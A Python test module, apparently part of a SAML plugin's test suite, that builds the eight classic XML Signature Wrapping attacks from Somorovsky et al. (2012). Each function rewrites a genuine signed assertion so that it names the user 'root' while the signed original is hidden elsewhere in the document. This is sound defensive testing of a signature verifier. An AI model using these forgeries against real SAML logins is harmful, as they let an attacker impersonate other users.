"""The eight classic wrapping attacks, and what is needed to make others: assertions taken apart and put together."""

from __future__ import annotations

from collections.abc import Callable
from copy import deepcopy
from typing import Any

from lxml import etree

from plugins.saml.tests.mint import DSIG_NAMESPACE, PROTOCOL_NAMESPACE, SAML_NAMESPACE

SAML, SAMLP, DSIG = f"{{{SAML_NAMESPACE}}}", f"{{{PROTOCOL_NAMESPACE}}}", f"{{{DSIG_NAMESPACE}}}"
EVIL = "root"
Element = Any
Attack = Callable[[Element, str], Element]


def parts(genuine: bytes, evil_id: str) -> tuple[Element, Element, Element]:
    """The genuine assertion, a copy of it that names another user, with the signature, and a document for both."""
    root = etree.fromstring(genuine)
    original = root if root.tag == f"{SAML}Assertion" else root.find(f"{SAML}Assertion")
    evil = deepcopy(original)
    evil.tail = None
    evil.find(f"{SAML}Subject/{SAML}NameID").text = EVIL
    evil.set("ID", original.get("ID") if evil_id == "same" else "_evil")
    return root, original, evil


def signature_of(element: Element) -> Element:
    return element.find(f"{DSIG}Signature")


def without_signature(element: Element) -> Element:
    element.remove(signature_of(element))
    return element


def instead(root: Element, original: Element, evil: Element) -> Element:
    """The document with the evil assertion in place of the original, which is removed."""
    if root is original:
        return evil
    root.replace(original, evil)
    return root


def xsw1(root: Element, evil_id: str) -> Element:
    """The original document inside the signature of the evil one."""
    copy, evil = twins(root, evil_id)
    signature_of(evil).append(without_signature(copy))
    return evil


def xsw2(root: Element, evil_id: str) -> Element:
    """The original document in front of the signature, which stays where it was."""
    copy, evil = twins(root, evil_id)
    signature_of(evil).addprevious(without_signature(copy))
    return evil


def twins(root: Element, evil_id: str) -> tuple[Element, Element]:
    """The document, and a copy of it that names another user."""
    evil = deepcopy(root)
    for name in evil.iter(f"{SAML}NameID"):
        name.text = EVIL
    if evil_id != "same":
        evil.set("ID", "_evil")
    return root, evil


def xsw3(root: Element, evil_id: str) -> Element:
    """The evil assertion first, without signature; of a bare one, the original is its first child."""
    root, original, evil = parts(etree.tostring(root), evil_id)
    without_signature(evil)
    if root is original:
        evil.insert(0, original)
        return evil
    original.addprevious(evil)
    return root


def xsw4(root: Element, evil_id: str) -> Element:
    """The original, with its signature, at the end of the evil assertion."""
    root, original, evil = parts(etree.tostring(root), evil_id)
    without_signature(evil)
    document = instead(root, original, evil)
    evil.append(original)
    return document


def hidden(where: Callable[[Element, Element], Element], what: str) -> Attack:
    """The evil assertion, with the signature, in place of the original, which is put into `where` of the document."""

    def attack(root: Element, evil_id: str) -> Element:
        root, original, evil = parts(etree.tostring(root), evil_id)
        document = instead(root, original, evil)
        where(document, signature_of(evil)).append(without_signature(original))
        return document

    attack.__name__ = what
    return attack


xsw5 = hidden(lambda document, signature: document, "xsw5")
xsw6 = hidden(lambda document, signature: signature, "xsw6")
xsw8 = hidden(lambda document, signature: etree.SubElement(signature, f"{DSIG}Object"), "xsw8")


def xsw7(root: Element, evil_id: str) -> Element:
    """Extensions with the evil assertion in front of the original; of a bare one, with the original in the evil one."""
    root, original, evil = parts(etree.tostring(root), evil_id)
    extensions = etree.Element(f"{SAMLP}Extensions")
    without_signature(evil)
    if root is original:
        evil.insert(1, extensions)
        extensions.append(original)
        return evil
    original.addprevious(extensions)
    extensions.append(evil)
    return root


CLASSIC = (xsw1, xsw2, xsw3, xsw4, xsw5, xsw6, xsw7, xsw8)
"""Somorovsky et al., On Breaking SAML: Be Whoever You Want to Be (2012), by their usual numbers."""
